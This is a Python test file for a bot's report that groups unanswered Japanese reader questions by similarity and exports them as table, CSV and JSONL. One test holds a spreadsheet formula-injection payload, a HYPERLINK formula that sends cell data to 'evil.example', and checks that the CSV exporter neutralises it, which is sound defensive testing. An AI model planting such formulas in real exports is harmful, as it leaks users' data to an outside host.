"""Gap groups: clustering, duplicate merge, ranking, fields and output formats."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import numpy as np

from bot.reports.gaps import GapGroup, clean_threshold, find_gaps, normalise
from bot.reports.gaps_format import display_width, fit, format_csv, format_jsonl, format_table
from tests.fakes import HashEmbedder

from .conftest import ARTICLE_A, ARTICLE_B, QuestionLogFile

TOKYO = ZoneInfo("Asia/Tokyo")
HASH_THRESHOLD = 0.75  # HashEmbedder is lexical: its near-duplicates score 0.77-0.94 here
T0 = datetime(2026, 2, 1, 3, 0, tzinfo=UTC)


async def test_paraphrases_share_a_group(log_file: QuestionLogFile) -> None:
    """Near-duplicate wordings land in one group, a different question in another."""
    for i, text in enumerate(
        ["Llama 4の発売日は？", "Llama 4の発売日はいつ？", "Llama 4 の発売日っていつ？"]
    ):
        log_file.add(text, T0 + timedelta(hours=i), user=f"r{i}")
    log_file.add("Llama 4の料金はいくら？", T0, user="r9")
    groups = await find_gaps(log_file.path, HashEmbedder(), top=10, threshold=HASH_THRESHOLD)
    assert [g.size for g in groups] == [3, 1]
    assert set(groups[0].wordings) == {
        "Llama 4の発売日は？",
        "Llama 4の発売日はいつ？",
        "Llama 4 の発売日っていつ？",
    }
    assert groups[1].example == "Llama 4の料金はいくら？"


async def test_exact_duplicates_merge_after_normalisation(log_file: QuestionLogFile) -> None:
    """Case, width, spaces and punctuation do not split a group, even with no similarity merge."""
    for text in ["Llama 4の発売日は？", "llama 4 の発売日は?", "Ｌｌａｍａ４の発売日は"]:
        log_file.add(text, T0)
    groups = await find_gaps(log_file.path, HashEmbedder(), top=10, threshold=1.01)
    assert len(groups) == 1
    assert groups[0].size == 3


def test_normalise_ignores_width_case_spaces_and_punctuation() -> None:
    """The duplicate key folds full-width forms, case, spaces and punctuation."""
    assert normalise("Ｌｌａｍａ　４の発売日は？！") == normalise("llama 4の発売日は")


async def test_groups_rank_by_distinct_readers(log_file: QuestionLogFile) -> None:
    """A question three readers asked outranks one a single reader asked five times."""
    for i in range(5):
        log_file.add("明日の東京の天気は？", T0 + timedelta(minutes=i), user="same")
    for i in range(3):
        log_file.add("GPUは何枚必要？", T0, user=f"reader{i}")
    log_file.add("カレーのコツは？", T0, user="other")
    groups = await find_gaps(log_file.path, HashEmbedder(), top=2, threshold=HASH_THRESHOLD)
    assert [(g.example, g.askers, g.size) for g in groups] == [
        ("GPUは何枚必要？", 3, 3),
        ("明日の東京の天気は？", 1, 5),
    ]


async def test_group_fields(log_file: QuestionLogFile) -> None:
    """Askers, local first/last times and the most common top article are reported."""
    log_file.add("Llama 4の発売日は？", T0, user="a", articles=[ARTICLE_A, ARTICLE_B])
    log_file.add("Llama 4の発売日は？", T0 + timedelta(days=2), user="a", articles=[ARTICLE_B])
    log_file.add("Llama 4の発売日はいつ？", T0 + timedelta(days=1), user=None, articles=[ARTICLE_A])
    (group,) = await find_gaps(
        log_file.path, HashEmbedder(), top=5, tz=TOKYO, threshold=HASH_THRESHOLD
    )
    assert group.size == 3
    assert group.askers == 1
    assert group.first_asked == T0.astimezone(TOKYO)
    assert group.first_asked.utcoffset() == timedelta(hours=9)
    assert group.last_asked == (T0 + timedelta(days=2)).astimezone(TOKYO)
    assert (group.article_title, group.article_url) == ARTICLE_A
    assert group.example == "Llama 4の発売日は？"
    assert group.wordings == ("Llama 4の発売日は？", "Llama 4の発売日はいつ？")


async def test_answered_questions_are_not_gaps(log_file: QuestionLogFile) -> None:
    """Only tiers related and none are listed."""
    log_file.add("MetaのEmuとは？", T0, tier="answer")
    log_file.add("Llama 4の料金は？", T0, tier="related")
    groups = await find_gaps(log_file.path, HashEmbedder(), top=5, threshold=HASH_THRESHOLD)
    assert [g.example for g in groups] == ["Llama 4の料金は？"]


async def test_since_is_a_local_day(log_file: QuestionLogFile) -> None:
    """`since` starts at local midnight: 15:30 UTC the day before counts in Tokyo."""
    log_file.add("前日の質問", datetime(2026, 2, 4, 14, 30, tzinfo=UTC))
    log_file.add("当日の質問", datetime(2026, 2, 4, 15, 30, tzinfo=UTC))
    groups = await find_gaps(
        log_file.path, HashEmbedder(), since=date(2026, 2, 5), top=5, tz=TOKYO, threshold=0.99
    )
    assert [g.example for g in groups] == ["当日の質問"]


async def test_empty_log_gives_no_groups(log_file: QuestionLogFile) -> None:
    """A log without unanswered questions yields an empty list, not an error."""
    assert await find_gaps(log_file.path, HashEmbedder(), top=5, threshold=0.9) == []


def _group(example: str, article: str | None = None) -> GapGroup:
    moment = datetime(2026, 2, 5, 9, 0, tzinfo=TOKYO)
    return GapGroup(example, 4, 3, moment, moment, (example, "別の言い方"), article, None)


def test_display_width_counts_wide_characters_twice() -> None:
    """Kana, kanji and full-width forms take two columns; ASCII one."""
    assert display_width("Llama 4の発売日") == 7 + 2 * 4
    assert display_width("ＡＢ") == 4


def test_fit_truncates_with_ellipsis_to_exact_width() -> None:
    """A long Japanese question is cut on a character boundary and padded to the width."""
    cut = fit("Llama 4の発売日はいつですか？教えてください", 15)
    assert cut.rstrip().endswith("…") and cut.startswith("Llama 4の発")
    assert display_width(cut) == 15


def test_table_columns_line_up_with_japanese() -> None:
    """Every row of the table has its columns at the same display positions."""
    table = format_table(
        [_group("Llama 4の発売日は？", "記事"), _group("short?", "an article")], 100
    )
    lines = table.splitlines()
    starts = {display_width(line[: line.index("2026-02-05")]) for line in lines[2:]}
    assert len(starts) == 1
    assert all(display_width(line) <= 100 for line in lines)


def test_csv_and_jsonl_carry_every_group() -> None:
    """CSV has a header and a row per group; JSONL one object per group, Japanese intact."""
    groups = [_group("Llama 4の発売日は？"), _group("料金は？")]
    rows = list(csv.DictReader(io.StringIO(format_csv(groups))))
    assert [r["example"] for r in rows] == ["Llama 4の発売日は？", "料金は？"]
    assert rows[0]["first_asked"] == "2026-02-05T09:00:00+09:00"
    lines = format_jsonl(groups).splitlines()
    assert json.loads(lines[1])["example"] == "料金は？"
    assert "料金" in lines[1]


def test_csv_neutralises_formulas_in_every_text_column() -> None:
    """A question or title a spreadsheet would run gets a leading apostrophe in gaps CSV."""
    evil = '=HYPERLINK("//evil.example/x?"&A1,"click")'
    group = GapGroup(evil, 2, 2, T0, T0, (evil, "+1 いくら？"), "@title", "-url")
    row = next(csv.DictReader(io.StringIO(format_csv([group]))))
    assert row["example"] == "'" + evil
    assert row["wordings"] == "'" + evil + " / +1 いくら？"
    assert (row["article_title"], row["article_url"]) == ("'@title", "'-url")
    assert (row["askers"], row["size"]) == ("2", "2")


def test_clean_threshold_sits_above_every_different_pair() -> None:
    """The lowest grid value above the most similar pair of different questions."""
    vectors = np.array([[1.0, 0.0], [0.8, 0.6], [0.6, 0.8]])  # cosines .8, .6, .96
    assert clean_threshold(vectors, ["a", "a", "b"], (0.85, 0.9, 0.97, 0.99)) == 0.97
    assert clean_threshold(vectors, ["a", "b", "b"], (0.85, 0.9, 0.97, 0.99)) == 0.85
    assert clean_threshold(vectors, ["a", "b", "c"], (0.5, 0.9)) == 0.9  # none clean: the top
